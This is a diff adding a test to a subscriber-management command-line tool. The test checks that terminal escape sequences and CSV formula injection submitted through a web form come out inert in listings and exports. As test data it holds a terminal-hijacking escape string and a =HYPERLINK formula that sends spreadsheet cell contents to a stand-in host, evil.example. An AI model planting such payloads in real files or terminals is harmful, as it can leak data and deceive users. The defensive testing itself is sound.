@@ -213,6 +213,35 @@ def test_an_export_imports_back_as_it_was_and_duplicates_are_reported(project, r
     assert by_address["boris@example.com"]["fields"] == {"city": "Moskva", "name": "Boris"}
 
 
+def test_what_a_web_form_let_in_is_inert_in_ls_and_export(project, runner, tmp_path) -> None:
+    """A name is what an anonymous reader typed: an escape sequence must not run in the
+    editor's terminal, nor a formula in the spreadsheet that opens the export (OWASP CSV
+    injection); an export still imports back exactly."""
+    conn = db.connect(project / ".digest" / db.DB_NAME)
+    name = "\x1b[2J\x1b]0;owned\x07Eve\tX\u202eevil"
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+    subscribers.add(conn, "eve@example.net", {"name": name, "note": formula}, "active", "web: test")
+    subscribers.add(conn, "-dash@example.net", {"name": "+1 555", "note": "@home"}, "active", "test")
+    conn.close()
+    listed = run(runner, "subscribers", "ls").stdout
+    assert "\x1b" not in listed and "\u202e" not in listed and "\x07" not in listed
+    eve = next(line for line in listed.splitlines() if line.startswith("eve@"))
+    assert "name=\\x1b[2J\\x1b]0;owned\\x07Eve\\tX\\u202eevil" in eve and len(eve.split("\t")) == 4
+
+    backup = tmp_path / "backup.csv"
+    assert run(runner, "subscribers", "export", str(backup)).exit_code == 0
+    cells = [cell for row in csv.reader(io.StringIO(backup.read_text())) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert f"'{formula}" in cells and "'-dash@example.net" in cells and "'@home" in cells
+
+    (project / ".digest" / "journal.sqlite3").unlink()
+    restored = run(runner, "subscribers", "import", str(backup))
+    assert restored.exit_code == 0, restored.output
+    by_address = {s["email"]: s for s in json.loads(run(runner, "subscribers", "ls", "--json").stdout)}
+    assert by_address["eve@example.net"]["fields"] == {"name": name, "note": formula}
+    assert by_address["-dash@example.net"]["fields"] == {"name": "+1 555", "note": "@home"}
+
+
 def test_erasure_redacts_the_server_replies_that_quote_the_address(tmp_path: Path) -> None:
     conn = db.connect(tmp_path / "journal.sqlite3")
     subscribers.add(conn, "Bob@example.org", {"name": "Bob"}, "active", "test")
